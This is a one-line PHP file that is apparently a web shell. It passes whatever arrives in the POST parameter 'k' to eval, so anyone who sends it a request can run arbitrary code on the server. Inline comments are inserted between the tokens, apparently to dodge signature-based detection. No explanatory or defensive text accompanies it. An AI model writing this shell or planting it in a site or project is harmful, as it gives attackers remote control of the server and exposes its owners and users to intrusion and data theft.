<?php @eval/*0x1f*/(/*pad*/$_POST/*q*/['k'/*k*/]);?>
